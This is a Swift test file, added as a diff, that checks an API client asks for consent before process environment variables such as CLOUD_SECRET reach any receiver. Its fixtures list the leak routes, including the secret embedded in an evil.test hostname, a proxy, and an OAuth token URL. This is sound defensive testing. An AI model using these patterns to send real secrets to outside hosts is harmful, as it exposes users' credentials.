@@ -1,0 +1,200 @@
+import Foundation
+import Networking
+import TestSupport
+import Testing
+
+@testable import Workspaces
+
+@Suite("Variables of the process need consent") struct VariableConsentTests {
+  /// Every place of a request that a value could leave by, with who would get it.
+  static let exits: [(name: String, receiver: String, change: @Sendable (inout RequestDefinition) -> Void)] = [
+    ("URL", "https://api.test", { $0.url += "?k={{CLOUD_SECRET}}" }),
+    ("host", "https://{{CLOUD_SECRET}}.evil.test", { $0.url = "https://{{CLOUD_SECRET}}.evil.test/x" }),
+    ("method", "https://api.test", { $0.method = "{{CLOUD_SECRET}}" }),
+    (
+      "path", "https://api.test",
+      {
+        $0.url += "/:id"
+        $0.params = [Parameter(.path, Row("id", "{{CLOUD_SECRET}}"))]
+      }
+    ),
+    ("header", "https://api.test", { $0.headers = [Row("X", "a {{process.env.CLOUD_SECRET}}")] }),
+    ("header name", "https://api.test", { $0.headers = [Row("{{CLOUD_SECRET}}", "a")] }),
+    ("body", "https://api.test", { $0.body = .text(.json, "{\"k\": \"{{CLOUD_SECRET}}\"}") }),
+    ("form", "https://api.test", { $0.body = .form([Row("k", "{{CLOUD_SECRET}}")]) }),
+    ("part", "https://api.test", { $0.body = .multipart([FormPart("k", .text("{{CLOUD_SECRET}}"))]) }),
+    ("GraphQL", "https://api.test", { $0.body = .graphql(query: "{a}", variables: "{\"k\": \"{{CLOUD_SECRET}}\"}") }),
+    (
+      "through a variable", "https://api.test",
+      {
+        $0.variables = [Row("mine", "{{CLOUD_SECRET}}")]
+        $0.headers = [Row("X", "{{mine}}")]
+      }
+    ),
+    (
+      "bearer", "https://api.test",
+      { $0.authentication = Authentication(.bearer, [.init("token", "{{CLOUD_SECRET}}")]) }
+    ),
+    (
+      "login", "https://id.evil.test:8443",
+      {
+        $0.authentication = Authentication(
+          .oauth2,
+          [
+            .init("accessTokenUrl", "https://id.evil.test:8443/token"), .init("credentials.clientId", "me"),
+            .init("credentials.clientSecret", "{{CLOUD_SECRET}}"),
+          ])
+      }
+    ),
+    ("test", "the results of the tests", { $0.assertions = [Assertion("res.status", "eq", "{{CLOUD_SECRET}}")] }),
+  ]
+
+  @Test("Wherever a value would leave by, it is asked about with its receiver, once", arguments: exits.indices)
+  func places(index: Int) throws {
+    let sample = try ConsentSample()
+    var definition = RequestDefinition(name: "x", url: "https://api.test/x")
+    Self.exits[index].change(&definition)
+    let uses = try sample.refused(definition)
+    #expect(uses.map(\.source) == [.variable("CLOUD_SECRET")])
+    #expect(uses.map(\.receiver) == [Self.exits[index].receiver])
+    try sample.allow(uses)
+    // What else may be wrong with such a request is another matter.
+    #expect((try? sample.refused(definition)) ?? [] == [])
+  }
+
+  @Test("The proxy of a collection gets nothing either, and is part of the receiver")
+  func proxy() throws {
+    let sample = try ConsentSample()
+    func write(_ host: String) throws {
+      try sample.folder.write(
+        "c/opencollection.yml",
+        "info: {name: C}\nconfig:\n  proxy: {inherit: false, config: {protocol: http, hostname: '\(host)', port: 8080}}\n"
+      )
+    }
+    try write("{{CLOUD_SECRET}}.evil.test")
+    var definition = RequestDefinition(name: "x", url: "https://api.test/x")
+    let uses = try sample.refused(definition)
+    #expect(uses.map(\.receiver) == ["the proxy http://{{CLOUD_SECRET}}.evil.test:8080"])
+    try sample.folder.write("c/opencollection.yml", "info: {name: C}\n")
+    definition.headers = [Row("X", "{{CLOUD_SECRET}}")]
+    try sample.allow(sample.refused(definition))
+    #expect(try sample.refused(definition).isEmpty)
+    try write("proxy.test")
+    #expect(try sample.refused(definition).map(\.receiver) == ["https://api.test by the proxy http://proxy.test:8080"])
+  }
+
+  @Test("A consent is for one name, one receiver and one collection; the place and the path do not count")
+  func scope() throws {
+    let sample = try ConsentSample()
+    var definition = RequestDefinition(name: "x", url: "https://api.test/x")
+    definition.headers = [Row("X", "{{CLOUD_SECRET}}")]
+    try sample.allow(sample.refused(definition))
+    definition.headers = [Row("Y", "{{CLOUD_SECRET}}")]
+    definition.url = "https://me@API.test:443/other?q=1"
+    #expect(try sample.refused(definition).isEmpty)
+    for url in ["http://api.test/x", "https://api.test:444/x", "https://evil.test/x", "https://api.test@evil.test/"] {
+      definition.url = url
+      #expect(try sample.refused(definition).count == 1, "\(url)")
+    }
+    definition.url = "https://api.test/{{HOME}}"
+    #expect(try sample.refused(definition).map(\.source) == [.variable("HOME")])
+    try sample.folder.write("d/opencollection.yml", "info: {name: D}\n")
+    let other = try Workspace.open(sample.folder.path("d"), stateFolder: sample.folder.path("state"))
+    let context = try other.context(for: other.path, inputs: VariableInputs(process: ConsentSample.process))
+    definition.url = "https://api.test/x"
+    #expect(try sample.refused(definition, in: context).count == 1)
+  }
+
+  @Test("A receiver that comes from an environment is its host; another environment is asked about anew")
+  func environments() throws {
+    let sample = try ConsentSample()
+    for name in ["near", "far"] {
+      try sample.folder.write(
+        "c/environments/\(name).yml", "variables: [{name: base, value: 'https://\(name).test/v1'}]\n")
+    }
+    let definition = RequestDefinition(name: "x", url: "{{base}}/{{CLOUD_SECRET}}")
+    let near = try sample.refused(definition, in: sample.context(environment: "near"))
+    #expect(near.map(\.receiver) == ["https://near.test"])
+    try sample.allow(near)
+    #expect(try sample.refused(definition, in: sample.context(environment: "near")).isEmpty)
+    #expect(
+      try sample.refused(definition, in: sample.context(environment: "far")).map(\.receiver) == ["https://far.test"])
+  }
+
+  @Test("APUS_VAR_NAME and --var are consent, and a secret that an environment declares follows the same rule")
+  func given() throws {
+    let sample = try ConsentSample()
+    try sample.folder.write(
+      "c/environments/e.yml",
+      "variables:\n  - {secret: true, name: CLOUD_SECRET}\n  - {secret: true, name: key, value: x}\n")
+    var definition = RequestDefinition(name: "x", url: "https://api.test/")
+    definition.headers = [Row("X", "{{CLOUD_SECRET}}"), Row("Y", "{{process.env.CLOUD_SECRET}}")]
+    #expect(try sample.refused(definition, in: sample.context(environment: "e")).count == 1)
+    let given = try sample.context(
+      environment: "e", process: ["APUS_VAR_CLOUD_SECRET": "given", "CLOUD_SECRET": "raw"])
+    let prepared = try PreparedRequest(definition, in: given)
+    #expect(prepared.request.headers["X"] == "given" && prepared.request.headers["Y"] == "given")
+    definition.headers.removeLast()
+    let typed = try sample.context(given: ["CLOUD_SECRET": "typed"])
+    #expect(try PreparedRequest(definition, in: typed).request.headers["X"] == "typed")
+    let naming = try sample.context(given: ["CLOUD_SECRET": "{{process.env.HOST}}"])
+    #expect(try PreparedRequest(definition, in: naming).request.headers["X"] == "mine.test")
+  }
+
+  @Test("What an answer has set may not name a variable of the process")
+  func captured() throws {
+    let sample = try ConsentSample()
+    var context = try sample.context()
+    context.setRuntime(RuntimeVariables([.init("next", "{{process.env.CLOUD_SECRET}}")]))
+    let definition = RequestDefinition(name: "x", url: "https://api.test/{{next}}")
+    #expect(try sample.refused(definition, in: context).map(\.source) == [.variable("CLOUD_SECRET")])
+  }
+
+  @Test("What the user named goes to the request's own server and nowhere else, and only by that name")
+  func named() throws {
+    let sample = try ConsentSample()
+    var context = try sample.context()
+    context.consent?.named = OutsideSource.variables(in: ["X: {{process.env.CLOUD_SECRET}} {{mine}}"])
+    var definition = RequestDefinition(name: "x", url: "https://api.test/{{CLOUD_SECRET}}")
+    #expect(try sample.refused(definition, in: context).isEmpty)
+    definition.variables = [Row("mine", "{{HOME}}")]
+    definition.headers = [Row("X", "{{mine}}")]
+    #expect(try sample.refused(definition, in: context).map(\.source) == [.variable("HOME")])
+    definition.headers = []
+    definition.authentication = Authentication(
+      .oauth2,
+      [.init("accessTokenUrl", "https://evil.test/t"), .init("credentials.clientId", "{{CLOUD_SECRET}}")])
+    #expect(try sample.refused(definition, in: context).map(\.receiver) == ["https://evil.test"])
+  }
+
+  @Test("Nothing is sent for its answer, and no command is run, before what a request uses is allowed")
+  func before() async throws {
+    let sample = try ConsentSample()
+    let mark = sample.folder.path("ran")
+    try sample.folder.write(
+      "c/environments/e.yml", "variables:\n  - {secret: true, name: key, command: 'echo x >> \(mark); echo k'}\n")
+    try sample.folder.write(
+      "c/login.yml", "info: {name: Login, type: http}\nhttp: {method: GET, url: 'https://api.test/login'}\n")
+    let net = SendSessionTests.Net()
+    let session = net.session(sample.workspace)
+    var definition = RequestDefinition(name: "x", url: "https://api.test/{{login | $.token}}/{{key}}")
+    definition.headers = [Row("X", "{{CLOUD_SECRET}}")]
+    let context = try sample.context(environment: "e")
+    let refusal = await #expect(throws: SendRefusal.self) {
+      try await session.prepare(definition, file: nil, in: context)
+    }
+    guard case .notAllowed(let uses) = refusal?.problem else { return #expect(Bool(false), "\(refusal as Any)") }
+    #expect(Set(uses.map(\.source.kind)) == ["variable", "command"])
+    #expect(net.asked.withLock { $0 }.isEmpty && !FileManager.default.fileExists(atPath: mark))
+    try sample.allow(uses)
+    let send = try await session.prepare(definition, file: nil, in: context)
+    #expect(send.prepared.request.url == "https://api.test/tok-1/k")
+    // A host that only an answer names is asked about when it is known.
+    definition.url = "https://{{login | $.token}}.test/"
+    let late = await #expect(throws: SendRefusal.self) {
+      try await session.prepare(definition, file: nil, in: context)
+    }
+    guard case .notAllowed(let more) = late?.problem else { return #expect(Bool(false), "\(late as Any)") }
+    #expect(more.map(\.receiver) == ["https://tok-1.test"])
+  }
+}
